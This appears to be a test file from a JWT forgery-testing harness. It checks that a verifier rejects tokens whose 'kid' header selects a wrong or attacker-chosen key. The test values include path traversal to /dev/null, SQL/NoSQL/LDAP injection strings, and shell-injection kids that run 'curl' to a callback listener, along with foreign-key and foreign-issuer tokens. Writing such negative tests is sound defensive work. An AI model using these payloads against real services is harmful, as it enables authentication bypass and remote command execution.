import { randomBytes } from 'node:crypto'
import { exportJWK, generateKeyPair } from 'jose'
import { createPrivateKey } from 'node:crypto'
import { attempt, headerLike, victimClaims } from '../../harness/forge/scene.js'
import { hmacToken } from '../../harness/forge/jwt.js'
import { signWith } from '../../harness/forge/issuer.js'
import { forgeryCheck } from './shared.js'

/**
 * KEY-05 to KEY-08 and KEY-10: `kid` as a path (traversal to /dev/null with the empty key, a /proc
 * file with its content), as SQL, NoSQL, LDAP and command injection (an out-of-band `curl` aimed at the
 * listener), the real kid with a foreign key, no kid, random kids, and a foreign issuer's key.
 */
export const kidSelection = forgeryCheck({
  name: 'kid-selection',
  title: 'The kid header selects an attacker-controlled, wrong or missing key',
  docs: 'forgery.md KEY-05 (kid traversal), KEY-06 (kid injection), KEY-07 (kid command / out-of-band), KEY-08 (wrong, missing, random kid), KEY-10 (foreign issuer key); RFC 8725 §3.10; fault signature-not-checked',
  listener: true,
  async attack(scene, listener) {
    const claims = victimClaims(scene)
    const hs = (kid: unknown, key: string) => hmacToken('HS256', key, headerLike(scene, { kid }), claims)
    const paths: [string, string][] = [['../../../../../../dev/null', ''], ['/dev/null', ''], ['/proc/sys/kernel/randomize_va_space', '2\n'], ['', ''], ['/invalid_path', '']]
    for (const [kid, key] of paths) await attempt(scene, { name: `HS256, kid ${JSON.stringify(kid)} keyed with ${JSON.stringify(key)}`, catalog: 'KEY-05', token: hs(kid, key), expect: 'reject' })
    const injections: [unknown, string][] = [["x' UNION SELECT '1';--", '1'], [{ $ne: null }, ''], ['*)(uid=*', ''], ['\u0000', '']]
    for (const [kid, key] of injections) await attempt(scene, { name: `HS256, kid ${JSON.stringify(kid)}`, catalog: 'KEY-06', token: hs(kid, key), expect: 'reject' })
    const l = listener!
    for (const kid of ['|sleep 10', `| curl ${l.url('/kid')}`, `$(curl ${l.url('/kid-subshell')})`]) {
      await attempt(scene, { name: `kid ${JSON.stringify(kid.replace(/:\d+/, ':<listener>'))}`, catalog: 'KEY-07', token: hs(kid, ''), expect: 'reject' })
    }

    const foreign = await generateKeyPair('ES256', { extractable: true })
    const foreignKey = createPrivateKey({ key: (await exportJWK(foreign.privateKey)) as never, format: 'jwk' })
    const realKid = scene.attackerToken.header.kid
    const alg = String(scene.attackerToken.header.alg)
    const es = (header: Record<string, unknown>, payload = claims) => signWith('ES256', foreignKey, header, payload)
    await attempt(scene, { name: 'the real kid, signed with a foreign ES256 key', catalog: 'KEY-08', token: es(headerLike(scene, { alg: 'ES256', kid: realKid })), expect: 'reject' })
    const { kid: _kid, ...noKid } = headerLike(scene, { alg: 'ES256' })
    await attempt(scene, { name: 'no kid, signed with a foreign ES256 key', catalog: 'KEY-08', token: es(noKid), expect: 'reject' })
    for (let i = 0; i < 8; i++) {
      const kid = randomBytes(12).toString('base64url')
      await attempt(scene, { name: `random kid #${i + 1}`, catalog: 'KEY-08', token: es(headerLike(scene, { alg: 'ES256', kid })), expect: 'reject' })
    }
    await attempt(scene, { name: `a foreign issuer's key and iss, its own kid (alg ${alg} → ES256)`, catalog: 'KEY-10', token: es(headerLike(scene, { alg: 'ES256', kid: 'foreign-issuer-key' }), { ...claims, iss: 'https://foreign-issuer.tenant-audit.test' }), expect: 'reject' })
  },
})
